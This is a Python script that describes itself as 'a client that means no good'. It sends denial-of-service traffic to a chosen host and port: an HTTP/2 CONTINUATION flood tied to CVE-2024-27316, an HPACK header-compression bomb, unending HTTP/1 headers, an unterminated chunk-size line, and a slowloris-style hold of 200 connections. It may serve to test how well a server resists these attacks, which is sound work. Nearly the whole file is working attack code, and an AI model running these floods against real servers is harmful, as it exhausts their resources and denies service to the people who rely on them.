"""A client that means no good: KIND HOST PORT. It sends until it is stopped or has sent enough."""

import socket
import struct
import sys
from collections.abc import Iterator

ENOUGH = 64 * 1024 * 1024
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
HEADERS, CONTINUATION = 1, 9
END_HEADERS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack("!BBI", kind, flags, stream) + payload


def continuations() -> Iterator[bytes]:
    """One head without an end, in frames as large as may be (CVE-2024-27316 and its like)."""
    yield PREFACE + frame(HEADERS, 0, 1, b"\x00\x01a\x01b")
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x7e" + b"x" * 126 + b"\x00\x01a\x01b" * 3000)


def bombs() -> Iterator[bytes]:
    """Heads of many bytes in few, by the compression's table."""
    block = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000 + b"\xbe" * 12_000
    yield PREFACE
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)


def head() -> Iterator[bytes]:
    """One HTTP/1 head without an end."""
    yield b"GET / HTTP/1.1\r\nX-User: me\r\n"
    while True:
        yield b"X-More: " + b"x" * 1000 + b"\r\n"


def chunks() -> Iterator[bytes]:
    """A chunk whose size is a line without an end."""
    yield b"POST / HTTP/1.1\r\nHost: a\r\nX-User: me\r\nTransfer-Encoding: chunked\r\n\r\n5"
    while True:
        yield b";" + b"x" * 1000


def attack(pieces: Iterator[bytes], host: str, port: int) -> str:
    sent = 0
    with socket.create_connection((host, port), timeout=20) as sock:
        try:
            for piece in pieces:
                sock.sendall(piece)
                sent += len(piece)
                if sent > ENOUGH:
                    return "sent enough"
        except (BrokenPipeError, ConnectionResetError):
            return "ended"
        except TimeoutError:
            return "stalled"
    return "done"


def slowly(host: str, port: int) -> None:
    """Many heads that do not come to their end before a line of input; then print who answers."""
    socks = [socket.create_connection((host, port), timeout=20) for _ in range(200)]
    for sock in socks:
        sock.sendall(b"GET /slow HTTP/1.1\r\nHost: a\r\n")
    print("begun", flush=True)
    while sys.stdin.readline() == "more\n":
        for sock in socks:
            sock.sendall(b"X-More: more\r\n")
        print("more", flush=True)
    for sock in socks:
        sock.sendall(b"X-User: me\r\nConnection: close\r\n\r\n")
        with sock.makefile("rb") as answer:
            print(answer.read().splitlines()[-1].decode(), flush=True)


kind, host, port = sys.argv[1:]
if kind == "slowly":
    slowly(host, int(port))
else:
    print(
        attack(
            {"continuations": continuations, "bombs": bombs, "head": head, "chunks": chunks}[kind](),
            host,
            int(port),
        )
    )
